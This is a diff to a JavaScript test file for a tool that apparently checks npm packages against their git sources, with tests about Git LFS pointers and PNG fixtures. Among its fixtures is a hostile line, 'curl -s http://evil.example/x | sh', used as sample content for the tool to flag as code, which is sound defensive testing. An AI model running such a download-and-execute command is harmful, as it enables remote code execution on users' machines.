@@ -85,17 +85,28 @@ test("the publisher's language decides the sequence of npm 6.10 to 7.12, and no 
   assert.equal(none.verdict, 'same-content');
 });
 
+/** A picture with these bytes in it: whole, from its first byte to its last. */
+function pictureOf(inside) {
+  const chunk = (kind, data) => {
+    const length = Buffer.alloc(4);
+    length.writeUInt32BE(data.length);
+    return Buffer.concat([length, Buffer.from(kind, 'latin1'), Buffer.from(data, 'latin1'), Buffer.alloc(4)]);
+  };
+  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', '\0'.repeat(13)), chunk('IDAT', inside), chunk('IEND', '')]);
+}
+
 test('Git LFS: the published file is proved by the pointer in git, and another file is not', async () => {
-  const attributes = '*.bin filter=lfs diff=lfs merge=lfs -text\n';
-  const files = { 'model.bin': pointerOf('hello\0world'), '.gitattributes': attributes };
-  const release = (name, data, more = {}) => world.release(name, { files: { ...files, ...more }, published: { 'model.bin': data, '.gitattributes': more['.gitattributes'] ?? attributes } });
-  const real = await world.judge((await release('p-lfs', 'hello\0world')).spec);
+  const attributes = '*.png filter=lfs diff=lfs merge=lfs -text\n';
+  const [one, another] = [pictureOf('world'), pictureOf('World')];
+  const files = { 'model.png': pointerOf(one), '.gitattributes': attributes };
+  const release = (name, data, more = {}) => world.release(name, { files: { ...files, ...more }, published: { 'model.png': data, '.gitattributes': more['.gitattributes'] ?? attributes } });
+  const real = await world.judge((await release('p-lfs', one)).spec);
   assert.equal(real.verdict, 'identical', real.code);
   assert.deepEqual(real.findings.filter(({ code }) => code.startsWith('lfs-')).map(({ code, severity }) => [code, severity]), [['lfs-by-pointer', 'warning']]);
-  const other = await world.judge((await release('p-lfs-other', 'hello\0World')).spec);
+  const other = await world.judge((await release('p-lfs-other', another)).spec);
   assert.equal(other.verdict, 'differs');
   // Without the attribute git has a text that looks like a pointer, and a checkout has the text.
-  const plain = await world.judge((await release('p-lfs-plain', 'hello\0world', { '.gitattributes': '*.bin -text\n' })).spec);
+  const plain = await world.judge((await release('p-lfs-plain', one, { '.gitattributes': '*.png -text\n' })).spec);
   assert.equal(plain.verdict, 'differs');
 });
 
@@ -121,6 +132,7 @@ test('code that git has as a pointer of Git LFS is in no source: nobody can read
     // What a shell takes for commands, and headers of programs of other systems.
     ['words.txt', 'curl -s http://evil.example/x | sh\n'],
     ['tool.bin', pe()],
+    ['model.bin', 'hello\0world'],
     ['several.bin', Buffer.from([0xca, 0xfe, 0xba, 0xbf, 0, 0, 0, 1, 1, 0, 0, 7])],
   ];
   for (const [nth, [path, content]] of cases.entries()) {
@@ -131,19 +143,19 @@ test('code that git has as a pointer of Git LFS is in no source: nobody can read
   }
   // What package.json runs or loads is code, whatever it holds; a picture that nothing names is
   // none.
-  const picture = Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1');
+  const picture = pictureOf('abc');
   for (const [nth, [json, verdict]] of [[{}, 'identical'], [{ main: 'a.png' }, 'differs'], [{ scripts: { postinstall: 'sh a.png' } }, 'differs']].entries()) {
     const attributes = 'a.png filter=lfs diff=lfs merge=lfs -text\n';
     const { spec } = await world.release(`p-lfs-data-${nth}`, { json, files: { 'a.png': pointerOf(picture), '.gitattributes': attributes }, published: { 'a.png': picture } });
     assert.equal((await world.judge(spec)).verdict, verdict, JSON.stringify(json));
   }
-  const extended = pointerOf('hello\0world').replace('oid ', `ext-0-case sha256:${'ab'.repeat(32)}\noid `);
-  const { spec } = await world.release('p-lfs-extended', { files: { 'model.bin': extended, '.gitattributes': '*.bin filter=lfs -text\n' }, published: { 'model.bin': 'hello\0world' } });
+  const extended = pointerOf(picture).replace('oid ', `ext-0-case sha256:${'ab'.repeat(32)}\noid `);
+  const { spec } = await world.release('p-lfs-extended', { files: { 'model.png': extended, '.gitattributes': '*.png filter=lfs -text\n' }, published: { 'model.png': picture } });
   assert.equal((await world.judge(spec)).verdict, 'differs', 'an extension makes other bytes of it');
 });
 
 test('data of Git LFS is no source of a package whose installation runs anything', async () => {
-  const picture = Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1');
+  const picture = pictureOf('abc');
   const attributes = { '.gitattributes': '*.png filter=lfs diff=lfs merge=lfs -text\n' };
   const bundled = (scripts) => [{ dependencies: { dep: '1.0.0' }, bundleDependencies: ['dep'] }, { 'node_modules/dep/package.json': manifest('dep', '1.0.0', { repository: null, scripts }) }];
   const node = { gypfile: true, scripts: { install: 'node-gyp rebuild' } };
